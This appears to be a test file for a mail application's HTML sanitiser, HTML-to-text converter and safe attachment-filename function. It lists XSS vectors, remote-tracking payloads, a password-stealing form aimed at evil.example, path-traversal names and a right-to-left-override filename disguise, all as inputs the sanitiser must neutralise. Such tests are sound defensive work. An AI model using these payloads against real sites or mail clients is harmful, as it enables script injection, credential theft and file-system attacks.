"""HTML sanitising, HTML-to-text rendering and safe attachment names."""

from __future__ import annotations

import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from desk_app.mail.sanitise import (
    MAX_FILENAME_BYTES,
    MAX_FILENAME_CHARS,
    html_to_text,
    remote_image_urls,
    safe_filename,
    sanitise_html,
)

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example/steal"><input name="password"><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{background:url(https://tracker.example/x.png)}</style>",
    '<div style="background-image:url(https://tracker.example/x.png)">x</div>',
    "<div style=\"background:URL('https://tracker.example/x.png')\">x</div>",
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:\\75 rl(https://tracker.example/x.png)">x</div>',
    '<div style="behavior:url(x.htc)">x</div>',
    '<div style="-moz-binding:url(https://evil.example/x.xml#x)">x</div>',
    '<table background="https://tracker.example/bg.png"><tr><td>x</td></tr></table>',
    '<body onload="alert(1)">x</body>',
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
    '<img src="https://tracker.example/x.png" srcset="https://tracker.example/y.png 2x">',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<p style="color:red" onclick=alert(1)>x</p>',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onclick",
    "ontoggle",
    "onmouseover",
    "javascript:",
    "data:",
    "<iframe",
    "srcdoc",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<meta",
    "<base",
    "<link",
    "<style",
    "url(",
    "expression",
    "behavior",
    "binding",
    "background=",
    "srcset",
    "<svg",
    "<math",
    "alert(",
]


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_and_remote_load_vectors_are_neutralised(vector: str) -> None:
    cleaned = sanitise_html(f"<p>before</p>{vector}<p>after</p>").lower()
    for needle in FORBIDDEN:
        assert needle not in cleaned, (vector, cleaned)
    assert "before" in cleaned and "after" in cleaned


def test_links_get_noopener_noreferrer() -> None:
    cleaned = sanitise_html('<a href="https://example.com/help" target="_blank">help</a>')
    assert 'href="https://example.com/help"' in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_mailto_and_tel_links_are_kept_but_not_cid_links() -> None:
    cleaned = sanitise_html(
        '<a href="mailto:a@example.com">m</a><a href="tel:+81312345678">t</a><a href="cid:x">c</a>'
    )
    assert 'href="mailto:a@example.com"' in cleaned
    assert 'href="tel:+81312345678"' in cleaned
    assert 'href="cid:x"' not in cleaned


def test_cid_and_remote_images_are_kept_and_remote_ones_reported() -> None:
    cleaned = sanitise_html(
        '<img src="cid:logo@example.com" alt="Logo">'
        '<img src="https://tracker.example/open.gif" width="1" height="1">'
    )
    assert 'src="cid:logo@example.com"' in cleaned
    assert 'src="https://tracker.example/open.gif"' in cleaned
    assert remote_image_urls(cleaned) == ["https://tracker.example/open.gif"]


def test_relative_links_are_dropped() -> None:
    assert "href" not in sanitise_html('<a href="/account/delete">x</a>')


def test_safe_styles_and_formatting_survive() -> None:
    cleaned = sanitise_html(
        '<p style="color: red; position: fixed">赤い<b>太字</b></p>'
        '<table border="1"><tr><td bgcolor="#eee">セル</td></tr></table>'
        '<font color="blue" face="Arial">фонт</font>'
    )
    assert 'style="color:red"' in cleaned
    assert "position" not in cleaned
    assert "<b>太字</b>" in cleaned
    assert 'bgcolor="#eee"' in cleaned
    assert '<font color="blue" face="Arial">фонт</font>' in cleaned


def test_title_and_style_content_do_not_leak_as_text() -> None:
    cleaned = sanitise_html(
        "<html><head><title>Secret title</title><style>p{}</style></head>"
        "<body><p>Body</p></body></html>"
    )
    assert cleaned == "<p>Body</p>"


@given(st.text(alphabet=st.sampled_from(list("<>\"'=/ :;()&#\\ascriptonerolhfjvg1")), max_size=200))
def test_sanitiser_output_never_contains_script_tags(fragment: str) -> None:
    cleaned = sanitise_html(fragment).lower()
    assert "<script" not in cleaned
    assert "javascript:" not in cleaned


# --- html_to_text ---------------------------------------------------------------------------


def test_html_to_text_keeps_paragraphs_breaks_and_lists() -> None:
    html = (
        "<div>Здравствуйте,</div><p>первый&nbsp;абзац\n  с переносом</p>"
        "<p>строка 1<br>строка 2</p>"
        "<ul><li>один</li><li>два</li></ul><ol><li>first</li><li>second</li></ol>"
        "<p>end</p>"
    )
    assert html_to_text(html) == (
        "Здравствуйте,\n\nпервый абзац с переносом\n\nстрока 1\nстрока 2\n\n"
        "- один\n- два\n\n1. first\n2. second\n\nend"
    )


def test_html_to_text_renders_blockquotes_as_quoted_lines() -> None:
    html = "<p>My answer</p><blockquote><p>Your question</p><p>Second line</p></blockquote>"
    assert html_to_text(html) == "My answer\n\n> Your question\n>\n> Second line"


def test_html_to_text_skips_scripts_styles_and_head() -> None:
    html = "<head><title>T</title><style>p{color:red}</style></head><p>Text</p><script>x()</script>"
    assert html_to_text(html) == "Text"


def test_html_to_text_shows_link_targets_and_keeps_pre() -> None:
    html = '<p>See <a href="https://help.example/x">the guide</a>.</p><pre>  a\n    b</pre>'
    assert html_to_text(html) == "See the guide <https://help.example/x>.\n\n  a\n    b"


def test_html_to_text_table_cells_are_separated() -> None:
    assert html_to_text("<table><tr><td>名前</td><td>値</td></tr></table>") == "名前\t値"


@given(st.text(max_size=300))
def test_html_to_text_never_raises(html: str) -> None:
    assert isinstance(html_to_text(html), str)


# --- safe_filename --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("report.pdf", "report.pdf"),
        ("見積書.pdf", "見積書.pdf"),
        ("Счёт №5.xlsx", "Счёт №5.xlsx"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/absolute/path/file.txt", "file.txt"),
        ("C:\\Users\\me\\doc.docx", "doc.docx"),
        ("con.txt", "_con.txt"),
        ("CON", "_CON"),
        ("nul.tar.gz", "_nul.tar.gz"),
        ("com1.log", "_com1.log"),
        ("console.txt", "console.txt"),
        ("a\x00b.exe", "ab.exe"),
        ("tab\there\nnew.txt", "tabherenew.txt"),
        ("invoice\u202egpj.exe", "invoicegpj.exe"),
        ("\u2066evil\u2069.txt", "evil.txt"),
        (".bashrc", "bashrc"),
        ("...hidden", "hidden"),
        ("trailing. ", "trailing"),
        ('what?<is>:this*|".txt', "what__is__this___.txt"),
        ("", "attachment"),
        ("   ", "attachment"),
        ("..", "attachment"),
        ("/", "attachment"),
        (None, "attachment"),
        ("e\u0301te\u0301.txt", "été.txt"),
    ],
)
def test_safe_filename(name: str | None, expected: str) -> None:
    assert safe_filename(name) == expected


def test_long_names_are_shortened_keeping_the_extension() -> None:
    name = safe_filename("a" * 300 + ".pdf")
    assert name == "a" * (MAX_FILENAME_CHARS - 4) + ".pdf"
    japanese = safe_filename("日" * 300 + ".docx")
    assert japanese.endswith(".docx")
    assert len(japanese.encode("utf-8")) <= MAX_FILENAME_BYTES


def test_absurd_extension_is_not_treated_as_one() -> None:
    name = safe_filename("x." + "y" * 400)
    assert len(name) <= MAX_FILENAME_CHARS


@given(st.text(max_size=400))
def test_safe_filename_properties(name: str) -> None:
    result = safe_filename(name)
    assert result
    assert "/" not in result and "\\" not in result
    assert not result.startswith(".")
    assert result not in {".", ".."}
    assert len(result) <= MAX_FILENAME_CHARS
    assert len(result.encode("utf-8")) <= MAX_FILENAME_BYTES
    assert not any(unicodedata.category(ch) in {"Cc", "Cs"} for ch in result)
    assert unicodedata.is_normalized("NFC", result) or result == "attachment"
